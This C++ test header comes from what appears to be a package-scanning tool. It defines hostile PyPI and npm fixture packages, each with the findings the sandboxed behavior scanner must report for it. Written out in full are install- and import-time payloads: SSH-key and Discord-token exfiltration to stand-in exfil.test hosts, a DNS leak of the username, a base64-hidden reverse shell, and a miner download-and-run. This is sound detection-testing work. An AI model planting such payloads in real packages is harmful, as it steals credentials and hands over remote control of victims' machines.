// The small hostile packages of issue 47's "what it must show", written here once, each with
// the findings the behavior scanner must give for it and the evidence each must carry — so
// that bwrap (behavior_real_test), podman and docker (behavior_images_test) and Kubernetes
// (behavior_pods_test) are held to the same list, and a runtime whose observer is blind, or
// whose walls break the detonation, fails it by name.
#pragma once

#include <gtest/gtest.h>

#include <chrono>
#include <string>
#include <string_view>
#include <vector>

#include "adapters/sandbox/blob.h"
#include "adapters/scanners/behavior.h"
#include "archive_builder.h"
#include "core/findings.h"
#include "core/scanner.h"
#include "wire/base64.h"

namespace batlehub::testing {

inline std::string behavior_sdist(const std::string& name, std::vector<TestEntry> files) {
  std::vector<TestEntry> entries = {dir(name + "-1.0/")};
  for (TestEntry& f : files) {
    f.name = name + "-1.0/" + f.name;
    entries.push_back(std::move(f));
  }
  return make_tgz(entries);
}

inline std::string behavior_npm_package(std::vector<TestEntry> files) {
  std::vector<TestEntry> entries = {dir("package/")};
  for (TestEntry& f : files) {
    f.name = "package/" + f.name;
    entries.push_back(std::move(f));
  }
  return make_tgz(entries);
}

inline std::string behavior_setup_py(const std::string& name, const std::string& before,
                                     const std::string& extra = "") {
  return "from setuptools import setup\n" + before + "\nsetup(name='" + name + "', version='1.0', packages=['" + name +
         "']" + extra + ")\n";
}

// The two shapes most of these packages take: the payload in setup.py (it runs at install),
// or in the package's __init__.py under a plain setup.py (it runs at import).
inline std::string behavior_install_sdist(const std::string& name, const std::string& setup_before) {
  return behavior_sdist(name,
                        {file("setup.py", behavior_setup_py(name, setup_before)), file(name + "/__init__.py", "")});
}
inline std::string behavior_import_sdist(const std::string& name, const std::string& init) {
  return behavior_sdist(name, {file("setup.py", behavior_setup_py(name, "")), file(name + "/__init__.py", init)});
}

// One finding a package must give: its rule, its severity, and a piece of its summary (the
// trace's evidence as `batlehub why` prints it).
struct ExpectedFinding {
  std::string reference;
  core::Severity severity;
  std::string evidence;
};

struct HostilePackage {
  std::string what;
  core::PackageKind kind;
  std::string archive;
  std::vector<ExpectedFinding> findings;  // empty: the package must give none at all
};

// The four hostile packages of the issue, a token grabber that sends over HTTPS, then a native package whose build
// fails for want of a compiler (no finding) and an ordinary one (none either).
inline std::vector<HostilePackage> hostile_packages() {
  std::vector<HostilePackage> out;
  {
    const std::string pre =
        "import os, urllib.request\n"
        "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
        "urllib.request.urlopen('http://collect.exfil.test/k', data=key.encode(), timeout=5)\n";
    out.push_back({"a setup.py that reads the decoy key and POSTs it",
                   core::PackageKind::kPypi,
                   behavior_install_sdist("keysend", pre),
                   {{"behavior-canary-sent", core::Severity::kCritical,
                     "at install, sent a decoy credential's canary to collect.exfil.test:80 (POST /k HTTP/1.1)"},
                    {"behavior-token-store-read", core::Severity::kHigh,
                     "at install, read a decoy ssh-key (/work/home/.ssh/id_rsa)"},
                    {"behavior-network-at-install", core::Severity::kMedium, "collect.exfil.test"}}});
  }
  {
    const std::string pj = R"({"name":"hostname-dns","version":"1.0.0","scripts":{"postinstall":
    "node -e \"require('dns').lookup(require('os').userInfo().username + '.' + process.env.npm_package_name + '.dns.exfil.test', () => {})\""}})";
    out.push_back(
        {"a postinstall that resolves a name carrying the host's user",
         core::PackageKind::kNpm,
         behavior_npm_package({file("package.json", pj), file("index.js", "module.exports = 1;\n")}),
         {{"behavior-identity-sent", core::Severity::kHigh, "in a DNS name: builder.hostname-dns.dns.exfil.test"},
          {"behavior-network-at-install", core::Severity::kMedium, "builder.hostname-dns.dns.exfil.test"}}});
  }
  {
    const std::string payload =
        "import socket, subprocess, os\n"
        "s = socket.create_connection(('c2.exfil.test', 4444))\n"
        "s.sendall(b'hello from ' + os.uname().nodename.encode())\n"
        "subprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n";
    const std::string init = "import base64\nexec(base64.b64decode('" + wire::base64_encode(payload) + "'))\n";
    out.push_back({"an import-time exec of decoded text: a reverse shell",
                   core::PackageKind::kPypi,
                   behavior_import_sdist("revsh", init),
                   {{"behavior-interactive-shell", core::Severity::kHigh,
                     "at import, started an interactive shell (a reverse shell's): /bin/sh -i"},
                    {"behavior-network-at-import", core::Severity::kMedium, "c2.exfil.test:4444"}}});
  }
  {
    const std::string pre =
        "import os, subprocess, urllib.request\n"
        "path = os.path.join(os.environ['TMPDIR'], 'xmrig')\n"
        "urllib.request.urlretrieve('http://dl.exfil.test/xmrig', path)\n"
        "os.chmod(path, 0o755)\n"
        "try:\n"
        "    subprocess.Popen([path, '-o', 'pool.exfil.test:3333', '-u', "
        "'44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7ot', '--donate-level', '1'])\n"
        "except OSError as e:\n"
        "    print('run failed', e)\n";
    out.push_back({"a miner downloaded, made executable and run at install",
                   core::PackageKind::kPypi,
                   behavior_install_sdist("miner", pre),
                   {{"behavior-downloaded-program-run", core::Severity::kHigh,
                     "at install, ran a program it had fetched: /work/tmp/xmrig -o pool.exfil.test:3333"},
                    {"behavior-network-at-install", core::Severity::kMedium, "dl.exfil.test"}}});
  }
  {
    // A Discord token grabber as they are written: the token store's lines searched for the
    // token, then posted to a webhook with requests, over HTTPS (read in the clear by the
    // sink's TLS server).
    const std::string init =
        "import os, re, requests\n"
        "store = os.path.expanduser('~/.config/discord/Local Storage/leveldb')\n"
        "tokens = []\n"
        "for name in os.listdir(store):\n"
        "    tokens += re.findall(r'[A-Za-z0-9_.-]{20,}', open(os.path.join(store, name), errors='ignore').read())\n"
        "requests.post('https://hooks.exfil.test/api/webhooks/1', json={'content': ' '.join(tokens)}, timeout=5)\n";
    out.push_back(
        {"an import that posts a Discord token to a webhook over HTTPS",
         core::PackageKind::kPypi,
         behavior_import_sdist("grabber", init),
         {{"behavior-canary-sent", core::Severity::kCritical,
           "at import, sent a decoy credential's canary to hooks.exfil.test:443 (POST /api/webhooks/1 "
           "HTTP/1.1)"},
          {"behavior-token-store-read", core::Severity::kHigh, "at import, read a decoy discord-token-store"}}});
  }
  {
    // Written for Windows, as much PyPI malware is: nothing happens unless os.name says "nt";
    // then Discord's store under APPDATA is read and posted. Seen in the Windows view.
    const std::string pre =
        "import os, glob, urllib.request\n"
        "if os.name == 'nt':\n"
        "    for path in glob.glob(os.path.join(os.getenv('APPDATA'), 'discord', 'Local Storage', 'leveldb', "
        "'*.log')):\n"
        "        urllib.request.urlopen('https://hooks.exfil.test/api/webhooks/2', data=open(path, 'rb').read(), "
        "timeout=5)\n";
    out.push_back({"a setup.py that steals Discord's token only on Windows",
                   core::PackageKind::kPypi,
                   behavior_install_sdist("winonly", pre),
                   {{"behavior-canary-sent", core::Severity::kCritical,
                     "at install as Windows, sent a decoy credential's canary to hooks.exfil.test:443 (POST "
                     "/api/webhooks/2 HTTP/1.1)"},
                    {"behavior-token-store-read", core::Severity::kHigh,
                     "at install as Windows, read a decoy discord-token-store"}}});
  }
  out.push_back({"a native package whose build fails without a compiler",
                 core::PackageKind::kPypi,
                 behavior_sdist("fastext",
                                {file("setup.py", behavior_setup_py("fastext", "from setuptools import Extension",
                                                                    ", ext_modules=[Extension('fastext._c', "
                                                                    "['fastext/_c.c'])]")),
                                 file("fastext/__init__.py", ""), file("fastext/_c.c", "int f(void) { return 1; }\n")}),
                 {}});
  {
    const std::string pj = R"({"name":"plain","version":"1.0.0","main":"index.js",
    "scripts":{"postinstall":"node -e \"require('fs').writeFileSync('built.txt', 'ok')\""}})";
    out.push_back(
        {"an ordinary npm package with a postinstall",
         core::PackageKind::kNpm,
         behavior_npm_package({file("package.json", pj), file("index.js", "module.exports = require('path').sep;\n")}),
         {}});
  }
  return out;
}

// The archive of the hostile package whose `what` starts with `what`: the trace-level tests
// (behavior_real_test) detonate the very packages the findings are asserted on.
inline std::string hostile_archive(std::string_view what) {
  for (const HostilePackage& p : hostile_packages()) {
    if (p.what.starts_with(what)) return p.archive;
  }
  ADD_FAILURE() << "no hostile package '" << what << "'";
  return {};
}

// The probe of the detonation room on `rt`, held as the worker holds it (scan_service.cc:
// its one /bin/sh expected), and the observer's self-test run through `rt`.
inline void expect_the_detonation_room_proven(core::SandboxRuntime& rt, const std::string& image) {
  core::ProbeTarget target{"behavior", image, {"batlehub-behavior"}, core::Limits{}};
  target.shell_expected = true;
  auto r = rt.probe(target);
  ASSERT_TRUE(r) << r.error().message;
  core::hold_to_target(*r, target);
  EXPECT_TRUE(r->passed()) << r->first_failure().value_or("");
  EXPECT_EQ(adapters::judge_self_test(rt.run(adapters::self_test_run(adapters::BehaviorOptions{}))), std::nullopt);
}

inline std::string describe_findings(const std::vector<core::Finding>& fs) {
  std::string s;
  for (const core::Finding& f : fs) {
    s += "  " + f.reference.value_or("?") + " [" + std::string(core::to_string(f.severity)) + "] " + f.summary + "  " +
         f.raw + "\n";
  }
  return s.empty() ? "  (none)\n" : s;
}

// Scans every hostile package through the behavior scanner on `rt`, as the worker runs it, and
// holds each to its findings: every expected one with its severity and evidence, and none at
// all where none is expected.
inline void expect_the_hostile_packages_found(core::SandboxRuntime& rt, const std::string& where) {
  adapters::BehaviorOptions o;
  o.import_timeout = std::chrono::seconds(8);
  const adapters::BehaviorScanner scanner(o);
  for (const HostilePackage& p : hostile_packages()) {
    core::ScanInput in;
    in.package.kind = p.kind;
    in.package.name = "x";
    in.package.version = "1.0";
    in.artifact = adapters::memory_blob(p.archive, "artifact");
    auto got = core::scan_with(scanner, rt, in);
    ASSERT_TRUE(got) << p.what << " " << where << ": " << core::describe(got.error());
    const std::string all = describe_findings(*got);
    if (p.findings.empty()) {
      EXPECT_TRUE(got->empty()) << p.what << " " << where << " gave findings:\n" << all;
      continue;
    }
    for (const ExpectedFinding& want : p.findings) {
      // A rule can fire in several phases (a module's import, then its execute phase, one step
      // lower): the evidence, which starts with the phase, picks the one.
      const core::Finding* match = nullptr;
      for (const core::Finding& f : *got) {
        if (f.reference == want.reference && f.summary.find(want.evidence) != std::string::npos) match = &f;
      }
      if (match == nullptr) {
        ADD_FAILURE() << p.what << " " << where << ": no " << want.reference << " with the evidence '" << want.evidence
                      << "' among:\n"
                      << all;
        continue;
      }
      EXPECT_EQ(match->severity, want.severity) << p.what << " " << where << ": " << want.reference << "\n" << all;
      EXPECT_EQ(match->scanner, "behavior");
    }
  }
}

}  // namespace batlehub::testing
